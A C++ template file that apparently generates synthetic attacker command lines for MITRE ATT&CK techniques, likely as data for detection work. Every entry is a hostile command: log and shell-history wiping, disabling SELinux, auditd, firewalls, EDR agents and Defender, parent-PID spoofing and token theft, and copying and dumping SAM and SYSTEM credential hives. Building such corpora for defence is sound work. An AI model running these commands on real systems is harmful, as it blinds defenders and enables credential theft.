// More families per technique, on Windows and Linux where the technique exists there: SELinux/AppArmor,
// audit rules, nftables and firewalld, logging and shell-history tampering, Defender's reporting and
// tamper switches for T1562; parent-PID spoofing and token APIs reached from PowerShell for T1134; hives
// read from backups, repair folders, remote admin shares and offline mounts for T1003.002.
#include "data/generator/templates.h"

namespace attune::data::gen {

void add_attack_breadth(TemplateSet& s) {
  const std::string& I = kT1562;
  s.add(
      I, "linux_logging", Kind::kCommand,
      {R"x({|sudo }history -c{| && history -w}{| && exit})x",
       R"x({rm -f|shred -uz|truncate -s 0} {~|/root|/home/{luser}}/.{bash|zsh}_history)x",
       R"x(ln -sf /dev/null {~|/root|/home/{luser}}/.{bash|zsh}_history)x",
       R"x({|sudo }{truncate -s 0|shred -n 3 -z} /var/log/{auth.log|secure|syslog|messages|audit/audit.log|wtmp|btmp|lastlog})x",
       R"x({|sudo }rm -rf /var/log/{audit|journal|*.log|apache2/*})x",
       R"x({|sudo }sh -c 'cat /dev/null > /var/log/{auth.log|syslog|audit/audit.log}')x",
       R"x({|sudo }journalctl --{vacuum-time={#1-5}s|vacuum-size=1K|rotate --vacuum-time=1s})x",
       R"x({|sudo }sed -i '/{ip}/d' /var/log/{auth.log|secure|nginx/access.log})x",
       R"x({|sudo }systemctl {stop|disable --now|mask} {rsyslog|syslog-ng|systemd-journald|auditd})x",
       R"x(echo 'HISTFILESIZE=0' >> {~|/root|/home/{luser}}/.bashrc)x",
       R"x(export HISTCONTROL=ignorespace{| && unset HISTFILE})x",
       R"x({|sudo }sed -i 's/^\*\.\*/#*.*/' /etc/rsyslog.conf)x"});
  s.add(I, "linux_mac", Kind::kCommand,
        {R"x({|sudo }aa-disable /etc/apparmor.d/{usr.sbin.{cupsd|tcpdump|mysqld}|*})x",
         R"x({|sudo }aa-complain /etc/apparmor.d/*)x",
         R"x({|sudo }apparmor_parser -R /etc/apparmor.d/usr.sbin.{cupsd|tcpdump|mysqld|nginx})x",
         R"x({|sudo }ln -s /etc/apparmor.d/{usr.sbin.mysqld|usr.sbin.tcpdump} /etc/apparmor.d/disable/)x",
         R"x({|sudo }setsebool -P {httpd_can_network_connect|deny_ptrace|secure_mode_policyload} {off|0})x",
         R"x({|sudo }sed -i 's/SELINUX=\(enforcing\|permissive\)/SELINUX=disabled/g' /etc/selinux/config)x",
         R"x({|sudo }grubby --update-kernel ALL --args selinux=0)x",
         R"x({|sudo }semodule -d {auditadm|sysadm|{word}})x",
         R"x(echo 0 | {|sudo }tee /sys/fs/selinux/enforce)x"});
  s.add(
      I, "linux_rules", Kind::kCommand,
      {R"x({|sudo }auditctl -D{| -k {word}})x",
       R"x({|sudo }auditctl -W /etc/{passwd|shadow|sudoers} -p wa{| -k {word}})x",
       R"x({|sudo }auditctl -e 0{| && service auditd stop})x",
       R"x({|sudo }rm -f /etc/audit/rules.d/*.rules && augenrules --load)x",
       R"x({|sudo }sed -i 's/^-w/#-w/' /etc/audit/rules.d/audit.rules)x", R"x({|sudo }nft flush ruleset)x",
       R"x({|sudo }nft delete table inet {filter|firewalld})x",
       R"x({|sudo }ip6tables {-F|--flush}{| && ip6tables -X})x",
       R"x({|sudo }iptables -P {INPUT|FORWARD|OUTPUT} ACCEPT && iptables -F)x",
       R"x({|sudo }iptables-save > {ltemp}/r && iptables -F)x", R"x({|sudo }ufw --force {disable|reset})x",
       R"x({|sudo }firewall-cmd --{panic-off|set-default-zone=trusted})x",
       R"x({|sudo }systemctl {stop|disable --now|mask} {firewalld|ufw|nftables|netfilter-persistent})x",
       R"x({|sudo }{kill -9 $(pidof {auditd|falcon-sensor|osqueryd})|killall -9 {auditd|osqueryd|wazuh-agentd}})x",
       R"x({|sudo }systemctl {stop|disable --now} {clamav-daemon|clamav-freshclam|falcon-sensor|mdatp|ds_agent|sentinelone})x",
       R"x({|sudo }/opt/CrowdStrike/falconctl -d -f --{rfm-state|aid})x",
       R"x({|sudo }rmmod {falcon_lsm_serviceable|ds_filter|{word}_edr})x"});
  s.add(
      I, "defender_tamper", Kind::kCommand,
      {R"x(Set-MpPreference -{MAPSReporting 0|SubmitSamplesConsent 2|PUAProtection 0|DisableEmailScanning $true|DisableRemovableDriveScanning $true})x",
       R"x(Set-MpPreference -{ExclusionIpAddress {ip}|ThreatIDDefaultAction_Actions 6 -ThreatIDDefaultAction_Ids {#2147483648-2147999999}})x",
       R"x(Set-MpPreference -{LowThreatDefaultAction|ModerateThreatDefaultAction|HighThreatDefaultAction} Allow)x",
       R"x({reg} add "HKLM\SOFTWARE\Microsoft\Windows Defender\Features" /v TamperProtection /t REG_DWORD /d 0 /f)x",
       R"x({reg} add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Spynet" /v {SpynetReporting|SubmitSamplesConsent} /t REG_DWORD /d 0 /f)x",
       R"x({reg} add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Exclusions\Paths" /v "{wtemp}" /t REG_DWORD /d 0 /f)x",
       R"x({reg} add HKLM\SYSTEM\CurrentControlSet\Services\{WinDefend|WdFilter|WdNisSvc|Sense} /v Start /t REG_DWORD /d 4 /f)x",
       R"x(fltmc{|.exe} unload WdFilter)x",
       R"x({reg} add HKLM\SYSTEM\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\{StandardProfile|DomainProfile|PublicProfile} /v EnableFirewall /t REG_DWORD /d 0 /f)x",
       R"x({reg} add HKLM\SYSTEM\CurrentControlSet\Services\EventLog /v Start /t REG_DWORD /d 4 /f)x",
       R"x({reg} add "HKLM\SYSTEM\CurrentControlSet\Control\WMI\Autologger\EventLog-{Security|System|Application}" /v Start /t REG_DWORD /d 0 /f)x",
       R"x(sc{|.exe} config EventLog start= disabled)x", R"x(Stop-Service -Name EventLog -Force)x"});
  const std::string& T = kT1134;
  s.add(
      T, "ppid_spoof", Kind::kCommand,
      {R"x({fname}.exe --ppid {pid} --spawn "C:\Windows\System32\{cmd.exe|notepad.exe|rundll32.exe}")x",
       R"x(Start-ProcessWithParent -ParentId {pid} -FilePath {wtemp}\{fname}.exe)x",
       R"x({ps} -c "Import-Module {wtemp}\{fname}.ps1; Invoke-PPIDSpoof -ParentPID {pid} -Command cmd.exe")x",
       R"x(psgetsys.ps1 {pid} "C:\Windows\System32\cmd.exe")x",
       R"x({ps} -ep bypass -c ". .\psgetsys.ps1; [MyProcess]::CreateProcessFromParent({pid},'cmd.exe','')")x",
       R"x(process={aproc} api=CreateProcessW flags=EXTENDED_STARTUPINFO_PRESENT attribute=PARENT_PROCESS parent_pid={pid} app={wtemp}\{fname}.exe)x"});
  s.add(
      T, "ps_token_api", Kind::kCommand,
      {R"x({ps} -c "Add-Type -MemberDefinition '[DllImport(\"advapi32.dll\")] public static extern bool ImpersonateLoggedOnUser(IntPtr h);' -Name A -Namespace B")x",
       R"x({ps} -c "[B.A]::DuplicateTokenEx($h, 0xf01ff, [IntPtr]::Zero, 2, 1, [ref]$dup)")x",
       R"x({ps} -c "$p=Get-Process {winlogon|lsass|services}; [Win32]::OpenProcessToken($p.Handle, 0x0006, [ref]$tok)")x",
       R"x(Invoke-{Impersonation|UserImpersonation} -Credential $cred{| -Command "whoami"})x",
       R"x(Invoke-RunAs -User {user} -Password {pass} -Domain {domain} -Command "cmd.exe")x",
       R"x(RunasCs.exe {user} {pass} "cmd /c whoami /all"{| -l 9| -d {domain}})x",
       R"x(Rubeus.exe createnetonly /program:C:\Windows\System32\{cmd.exe|notepad.exe}{| /show}{| /ticket:{fname}.kirbi})x",
       R"x(tokenvator.exe {GetSystem|Steal_Token {pid}|BypassUAC|Sample_Processes})x"});
  const std::string& S = kT1003_002;
  s.add(
      S, "offline", Kind::kCommand,
      {R"x(copy {C:|%SystemRoot%}\Windows\repair\{SAM|SYSTEM|SECURITY} {wtemp}\{fname})x",
       R"x(copy \\{whost}\C$\Windows\System32\config\{SAM|SYSTEM|SECURITY} {wtemp}\)x",
       R"x(robocopy /b C:\Windows\System32\config {wtemp} SAM SYSTEM{| SECURITY})x",
       R"x(wbadmin start backup -backuptarget:\\{whost}\{share} -include:C:\Windows\System32\config\{SAM|SYSTEM} -quiet)x",
       R"x(wmic /node:{whost} process call create "cmd /c reg save HKLM\{SAM|SYSTEM|SECURITY} C:\Windows\Temp\{fname}")x",
       R"x(Invoke-Command -ComputerName {whost} -ScriptBlock {lb} reg save HKLM\{SAM|SYSTEM} C:\Windows\Temp\{fname} {rb})x",
       R"x(hivexsh -w {/mnt/win|/media/{luser}/Windows}/Windows/System32/config/SAM)x",
       R"x(reged -x {/mnt/win|/mnt/c}/Windows/System32/config/SAM HKEY_LOCAL_MACHINE\\SAM \\ {ltemp}/sam.reg)x",
       R"x(python3 {secretsdump.py|{lhome}/impacket/examples/secretsdump.py} -sam {ltemp}/SAM -system {ltemp}/SYSTEM LOCAL{| -outputfile {fname}})x",
       R"x(samdump2 {/mnt/win|/mnt/c}/Windows/System32/config/SYSTEM {/mnt/win|/mnt/c}/Windows/System32/config/SAM{| > {ltemp}/{fname}.txt})x",
       R"x(cp {/mnt/win|/mnt/c|/media/{luser}/Windows}/Windows/System32/config/{lb}SAM,SYSTEM,SECURITY{rb} {ltemp}/)x",
       R"x(esentutl.exe /y /vss C:\Windows\System32\config\{SAM|SYSTEM|SECURITY} /d {wtemp}\{fname})x"});
}

}  // namespace attune::data::gen
